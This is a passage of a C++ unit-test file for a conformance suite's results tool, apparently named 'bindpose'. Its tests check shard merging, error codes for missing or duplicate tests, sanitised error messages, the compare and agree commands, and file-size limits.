  const json second = results_json_of({{today[1]}}, 1, 2, today);
  EXPECT_EQ(merge_error({first, second}), "");
  EXPECT_EQ(merge_error({first, results_json_of({{former[1]}}, 1, 2, former)}), "")
      << "both have former names";
  EXPECT_TRUE(has(merge_error({first}), "animation.slerp.a/g/d"));
  first["suite"]["not_run"] = json::array();  // which tests were planned is unknown
  EXPECT_TRUE(has(merge_error({first, second}), "MERGE_PLAN"));
}

TEST(MergeTest, missing_and_duplicate_tests_are_refused) {
  const json first = shard({{"a/g/d"}, {"c/g/d"}}, 0), second = shard({{"b/g/d"}}, 1);
  EXPECT_EQ(merge_error({first, second}), "");
  const std::string lost = merge_error({first});
  EXPECT_TRUE(has(lost, "MERGE_MISSING"));
  EXPECT_TRUE(has(lost, "b/g/d")) << "names the test";
  EXPECT_FALSE(has(lost, "a/g/d"));
  EXPECT_TRUE(has(merge_error({first, shard({}, 1)}), "b/g/d")) << "a shard that ran nothing";
  const std::string twice = merge_error({first, shard({{"b/g/d"}, {"a/g/d"}}, 1)});
  EXPECT_TRUE(has(twice, {"MERGE_DOUBLE", "a/g/d (shard1)"}));
  EXPECT_TRUE(has(merge_error({first, first}), "MERGE_PLAN")) << "a shard twice";
  EXPECT_TRUE(has(merge_error({first, shard({{"b/g/d"}}, 1, 3)}), "MERGE_PLAN"));
  EXPECT_TRUE(has(merge_error({first, results_json_of({{"b/g/d"}}, 1, 2)}), "MERGE_PLAN"))
      << "of another run";
  EXPECT_TRUE(has(merge_error({}), "MERGE_PLAN"));
  json foreign = second;
  foreign["results"][0]["name"] = "z/g/d";
  EXPECT_TRUE(has(merge_error({first, foreign}), "MERGE_MISSING")) << "a name not planned";
  json without_plan = second;
  without_plan.erase("suite");
  EXPECT_TRUE(has(merge_error({first, without_plan}), "MERGE_PLAN"));
  json other_subject = second;
  other_subject["subjects"][0]["name"] = "cpu";
  EXPECT_TRUE(has(merge_error({first, other_subject}), "MERGE_SUBJECTS"));
}

TEST(MergeTest, another_device_is_a_warning_but_a_missing_test_is_a_failure) {
  json second = shard({{"b/g/d"}}, 1);
  second["subjects"][0]["info"]["renderer"] = "another";
  second["missing"] = {"x/g/d"};
  const Merged merged = merged_of({shard({{"a/g/d"}, {"c/g/d"}}, 0), second});
  EXPECT_EQ(merged.warnings.size(), 1U);
  EXPECT_EQ(merged.exit_code, 1);
  const TemporaryFolder folder;
  ASSERT_TRUE(write_merged(folder, merged));
  EXPECT_EQ(slurp(folder / "failures.csv"), "x/g/d,Missing\n");
}

TEST(ResultsTest, a_subject_that_is_not_an_object_is_refused) {
  nlohmann::json document = results_json_of({{"a/gpu/-"}});
  document["subjects"].push_back("gpu");
  const auto refused = parse_results(document.dump(), "r.json");
  ASSERT_FALSE(refused) << "merge() reads the name and counts of each subject";
  EXPECT_EQ(to_string(refused.error()), "RESULTS_FORMAT at r.json#/subjects/1: must be an object");
}

TEST(ResultsTest, names_in_errors_can_be_printed) {
  const std::string name = test::malicious_json_name();
  nlohmann::json twice = results_json_of({{name}, {name}}), outcome = results_json_of({{"a", name}});
  for (const nlohmann::json& document : {twice, outcome}) {
    const auto refused = parse_results(document.dump(), "r.json");
    ASSERT_FALSE(refused);
    EXPECT_TRUE(test::is_printable_line(refused.error())) << refused.error().code;
  }
}

TEST(MergeTest, infinite_seconds_are_read_and_written_as_text) {
  json endless = shard({{"a/g/d"}, {"b/g/d"}, {"c/g/d"}}, 0, 1);
  endless["seconds"] = "inf";
  const Merged merged = merged_of({endless});
  EXPECT_EQ(merged.document["seconds"], "inf");
  EXPECT_TRUE(std::isinf(results_of(json::parse(json_text(merged.document))).seconds));
}

TEST(MergeTest, a_huge_number_of_shards_gives_a_short_message) {
  nlohmann::json document = results_json_of({{"a/gpu/-"}});
  document["suite"]["shards"] = std::uint64_t{1} << 62;
  document["suite"]["not_run"] = {test::malicious_json_name()};
  const auto refused = merge({results_of(document)});
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, "MERGE_MISSING");
  EXPECT_LT(refused.error().message.size(), 1000U);
  EXPECT_TRUE(has(refused.error().message, "1, 2, 3"));
  EXPECT_EQ(refused.error().message.find('\x1b'), std::string::npos);
  EXPECT_EQ(refused.error().message.find('\x7F'), std::string::npos);
}

TEST(AgreeCommandTest, a_subject_without_a_text_as_its_name_is_ignored) {
  json document = results_json_of({{"a/g/d"}, {"b/g/d"}});
  document["subjects"][0]["name"] = 1;
  for (json& result : document["results"])
    result["bits"] = "0123456789abcdef";
  const TemporaryFolder folder;
  std::ofstream(folder / "one.json") << document.dump();
  expect_ended(run_in(folder, BINDPOSE_PROGRAM " agree one.json one.json"), 0, {"2 of 2 inputs"});
}

TEST(CompareCommandTest, two_subjects_are_compared_by_case_and_variant) {
  const TemporaryFolder folder;
  const auto write = [&folder](const char* file, const json& document) {
    std::ofstream(folder / file) << document.dump();
  };
  write("old.json", results_json_of({{"a/cpu/-"}, {"b/cpu/-"}}));
  write("new.json", results_json_of({{"a/gpu/-"}, {"b/gpu/-", "fail"}}));
  json both = results_json_of({{"a/cpu/-"}, {"b/cpu/-"}, {"a/gpu/-"}, {"b/gpu/-", "fail"}});
  for (json& entry : both["results"])
    entry["subject"] = entry["name"].get<std::string>().substr(2, 3);
  write("both.json", both);
  write("some.json", results_json_of({{"b/gpu/-"}, {"b/cpu/-"}}));
  write("other_case.json", results_json_of({{"c/cpu/-"}}));
  const auto said = [&folder](const std::string& files) {
    return run_in(folder, BINDPOSE_PROGRAM " compare " + files).out;
  };
  for (const char* files : {"old.json new.json", "both.json both.json --subjects cpu gpu"})
    EXPECT_TRUE(has(said(files), {"'cpu' and 'gpu' are compared by case and variant", "1 broken, 1 same",
                                  "\n      b/*/-\n"}))
        << said(files);
  for (const char* files : {"old.json old.json", "old.json some.json", "old.json other_case.json"})
    EXPECT_FALSE(has(said(files), "by case and variant")) << files;
  expect_ended(run_in(folder, BINDPOSE_PROGRAM " compare both.json both.json --subjects cpu tpu"), 2,
               {"SUBJECT_UNKNOWN", "which has cpu, gpu"});
  json unnamed = results_json_of({{"a"}, {"b/cpu"}});
  for (json& entry : unnamed["results"])
    entry["subject"] = "cpu";
  write("unnamed.json", unnamed);
  expect_ended(run_in(folder, BINDPOSE_PROGRAM " compare unnamed.json unnamed.json --subjects cpu cpu"), 0,
               {"2 same"});
}

TEST(ResultsTest, each_file_of_a_gate_has_a_size_limit) {
  const TemporaryFolder folder;
  const std::filesystem::path file = folder / "file";
  std::ofstream(file).put('{');
  const auto code = [&file](const DocumentLimit& limit, auto read) {
    std::filesystem::resize_file(file, limit.most + 1);  // a sparse file takes no space
    const auto refused = read(file);
    return refused ? "" : refused.error().code + ": " + refused.error().message;
  };
  EXPECT_EQ(code(limits::results, read_results), "FILE_SIZE: 536870913 bytes, expected at most 536870912");
  EXPECT_EQ(code(limits::waivers, Waivers::read), "FILE_SIZE: 16777217 bytes, expected at most 16777216");
  EXPECT_EQ(code(limits::baseline, Baseline::read), "FILE_SIZE: 16777217 bytes, expected at most 16777216");
  EXPECT_EQ(code(limits::patterns, PatternList::read),
            "FILE_SIZE: 16777217 bytes, expected at most 16777216");
  EXPECT_EQ(code(limits::device_list, read_device_list),
            "FILE_SIZE: 16777217 bytes, expected at most 16777216");
  EXPECT_FALSE(is_device_list(file)) << "the format is found without reading the whole file";
}

}  // namespace bindpose::conformance::results_test
